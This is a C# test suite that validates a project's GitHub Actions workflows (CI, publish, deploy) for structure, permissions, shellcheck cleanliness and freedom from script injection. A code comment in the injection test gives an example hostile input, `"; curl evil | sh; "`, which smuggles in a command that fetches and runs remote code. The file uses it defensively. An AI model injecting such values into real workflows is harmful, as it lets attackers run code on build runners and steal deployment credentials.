using System.Text;
using System.Text.RegularExpressions;
using BuzzTalk.Testing;
using YamlDotNet.RepresentationModel;

namespace BuzzTalk.Fleet.Tests.Workflows;

/// <summary>The GitHub Actions workflows: present, well-formed, free of script injection, and their scripts shellcheck-clean (at style level, stricter than warning).</summary>
public sealed partial class WorkflowFilesTests
{
    private static readonly string s_directory = Path.Combine(RepositoryRoot.Path, ".github", "workflows");

    public static TheoryData<string> Files => new() { "ci.yml", "publish.yml", "deploy.yml" };

    [Theory]
    [MemberData(nameof(Files))]
    public void Each_workflow_exists_and_parses_with_jobs_and_steps(string file)
    {
        var root = Load(file);

        Assert.NotNull(Child(root, "on"));
        Assert.NotEmpty(Steps(root));
        Assert.All(Steps(root), step => Assert.True(Child(step, "run") is not null || Child(step, "uses") is not null));
    }

    [Theory]
    [MemberData(nameof(Files))]
    public void No_run_script_interpolates_dispatch_inputs(string file)
    {
        // ${{ inputs.x }} is pasted into the script before bash parses it: an input such as
        // `"; curl evil | sh; "` would run. Inputs go through env: and are quoted variables instead.
        foreach (var (_, script) in RunScripts(Load(file)))
        {
            Assert.DoesNotMatch(InputExpression(), script);
        }
    }

    [Fact]
    public void Deploy_is_manual_with_its_inputs_never_overlaps_and_gets_an_id_token()
    {
        var root = Load("deploy.yml");

        var inputs = (YamlMappingNode)Child(root, "on", "workflow_dispatch", "inputs")!;
        Assert.Equal(["services", "image_tag", "parallel", "max_failures"], inputs.Children.Keys.Select(k => k.ToString()));
        Assert.Equal("backend,frontend", Scalar(inputs, "services", "default"));
        Assert.Equal("latest", Scalar(inputs, "image_tag", "default"));
        Assert.Equal("1", Scalar(inputs, "parallel", "default"));
        Assert.Equal("0", Scalar(inputs, "max_failures", "default"));
        Assert.False(string.IsNullOrWhiteSpace(Scalar(root, "concurrency", "group")));
        Assert.Equal("false", Scalar(root, "concurrency", "cancel-in-progress"));
        Assert.Equal("write", Scalar(root, "permissions", "id-token"));
        Assert.Equal("read", Scalar(root, "permissions", "contents"));
        Assert.Equal("read", Scalar(root, "permissions", "actions"));
        Assert.Equal(3, ((YamlMappingNode)Child(root, "permissions")!).Children.Count);
        var deploy = Steps(root).Single(s => Scalar(s, "run")?.Contains("buzztalk-deployer deploy", StringComparison.Ordinal) == true);
        Assert.Contains("--config \"$SETTINGS\"", Scalar(deploy, "run"), StringComparison.Ordinal);
        var inventory = Steps(root).Single(s => Scalar(s, "run")?.Contains("instance-groups managed list-instances", StringComparison.Ordinal) == true);
        Assert.Contains("instanceStatus=RUNNING", Scalar(inventory, "run"), StringComparison.Ordinal);
        Assert.Contains("=~", Scalar(deploy, "run"), StringComparison.Ordinal); // inputs validated before use
        Assert.Contains(Steps(root), s => Scalar(s, "uses")?.StartsWith("google-github-actions/auth@", StringComparison.Ordinal) == true);
    }

    [Fact]
    public void Ci_runs_the_ci_script_on_pull_requests_and_main()
    {
        var root = Load("ci.yml");

        Assert.NotNull(Child(root, "on", "pull_request"));
        Assert.Equal("main", ((YamlSequenceNode)Child(root, "on", "push", "branches")!).Children.Single().ToString());
        Assert.Contains(RunScripts(root), s => s.Script.Contains("bash .ci/run", StringComparison.Ordinal));
        Assert.Contains(Steps(root), s => Scalar(s, "with", "global-json-file") == "global.json");
    }

    [Fact]
    public void Publish_uploads_the_bundle_artifact_for_30_days()
    {
        var root = Load("publish.yml");

        var upload = Steps(root).Single(s => Scalar(s, "with", "name") == "buzztalk-bundle");
        Assert.StartsWith("actions/upload-artifact@", Scalar(upload, "uses"), StringComparison.Ordinal);
        Assert.Equal("30", Scalar(upload, "with", "retention-days"));
        var scripts = string.Join('\n', RunScripts(root).Select(s => s.Script));
        Assert.Contains("--operation publish --step publish --output-path bundle", scripts, StringComparison.Ordinal);
        Assert.Contains("bundle/ops-host/bin", scripts, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Files))]
    public async Task Every_run_script_passes_shellcheck(string file)
    {
        using var scratch = new ScratchDirectory();
        var root = Load(file);
        var index = 0;
        foreach (var (env, script) in RunScripts(root))
        {
            // Expressions are substituted before bash runs; a variable stands in for them here, and
            // the step's environment is declared so mixed-case names are not taken for typos.
            var text = new StringBuilder("#!/usr/bin/env bash\n");
            foreach (var name in env)
            {
                text.Append("export ").Append(name).Append("=placeholder\n");
            }

            text.Append(Expression().Replace(script, "$GITHUB_EXPRESSION"));
            var path = Path.Combine(scratch.Path, $"step{index++}.sh");
            await File.WriteAllTextAsync(path, text.ToString());

            var (exit, output) = await ToolRun.RunAsync("shellcheck", scratch.Path, "-s", "bash", "-S", "style", path);

            Assert.True(exit == 0, $"{file}, script:\n{script}\nshellcheck:\n{output}");
        }
    }

    [GeneratedRegex(@"\$\{\{\s*(github\.event\.)?inputs\.")]
    private static partial Regex InputExpression();

    [GeneratedRegex(@"\$\{\{.*?\}\}", RegexOptions.Singleline)]
    private static partial Regex Expression();

    private static YamlMappingNode Load(string file)
    {
        var stream = new YamlStream();
        using var reader = new StreamReader(Path.Combine(s_directory, file));
        stream.Load(reader);
        return (YamlMappingNode)stream.Documents.Single().RootNode;
    }

    private static IEnumerable<YamlMappingNode> Jobs(YamlMappingNode root) =>
        ((YamlMappingNode)Child(root, "jobs")!).Children.Values.Cast<YamlMappingNode>();

    private static List<YamlMappingNode> Steps(YamlMappingNode root) =>
        Jobs(root).SelectMany(job => ((YamlSequenceNode)Child(job, "steps")!).Children.Cast<YamlMappingNode>()).ToList();

    /// <summary>Each run script with the names of the environment variables it sees (workflow, job and step env).</summary>
    private static List<(List<string> Env, string Script)> RunScripts(YamlMappingNode root)
    {
        var scripts = new List<(List<string>, string)>();
        foreach (var job in Jobs(root))
        {
            foreach (var step in ((YamlSequenceNode)Child(job, "steps")!).Children.Cast<YamlMappingNode>())
            {
                if (Scalar(step, "run") is { } script)
                {
                    var env = new[] { root, job, step }
                        .Select(node => Child(node, "env") as YamlMappingNode)
                        .SelectMany(map => map?.Children.Keys.Select(k => k.ToString()) ?? [])
                        .ToList();
                    scripts.Add((env, script));
                }
            }
        }

        return scripts;
    }

    private static YamlNode? Child(YamlNode node, params string[] path)
    {
        foreach (var key in path)
        {
            if (node is not YamlMappingNode map || !map.Children.TryGetValue(new YamlScalarNode(key), out var next))
            {
                return null;
            }

            node = next;
        }

        return node;
    }

    private static string? Scalar(YamlNode node, params string[] path) => (Child(node, path) as YamlScalarNode)?.Value;
}
